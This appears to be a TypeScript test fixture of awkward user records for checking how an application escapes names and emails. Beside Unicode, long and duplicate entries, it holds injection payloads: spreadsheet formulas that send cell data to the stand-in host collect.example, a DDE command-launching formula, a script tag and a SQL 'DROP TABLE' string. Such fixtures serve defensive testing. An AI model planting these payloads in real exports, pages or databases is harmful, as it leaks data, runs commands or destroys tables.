/** People whose names and addresses are hard on those who handle them: formulas, scripts, scripts of other kinds. */
import type { UserRow } from './records.ts';

export const ODD_PEOPLE: readonly Partial<UserRow>[] = [
  { name: '=HYPERLINK("https://collect.example/?who="&A2,"Open invoice")', email: 'formula@odd.example' },
  { name: "+1+cmd|' /C calc'!A0", email: 'plus@odd.example' },
  { name: '-2+3', email: 'minus@odd.example' },
  { name: '@SUM(1+9)*cmd', email: 'at@odd.example' },
  { name: '\t=1+1', email: 'tab@odd.example', notes: '=IMPORTXML("https://collect.example","//a")' },
  { name: 'Quote "Comma", Semicolon; Ltd\nSecond line', email: 'quote@odd.example' },
  { name: '<script>alert(1)</script>', email: 'script@odd.example' },
  { name: "Robert'); DROP TABLE users;--", email: 'robert@odd.example' },
  { name: 'Zoë Ångström 💡 Łukasz', email: 'zoë@odd.example' },
  { name: 'عبد الله بن محمد', email: 'arabic@odd.example' },
  { name: 'Right\u202eteL', email: 'override@odd.example' },
  { name: 'Long '.repeat(51), email: `${'l'.repeat(64)}@odd.example` },
  { name: 'No Address', email: null, phone: '+442079460999' },
  { name: 'Twin One', email: 'twin@odd.example', externalId: 'Twin-7' },
  { name: 'Twin Two', email: 'Twin@Odd.example', externalId: 'twin-7' },
];
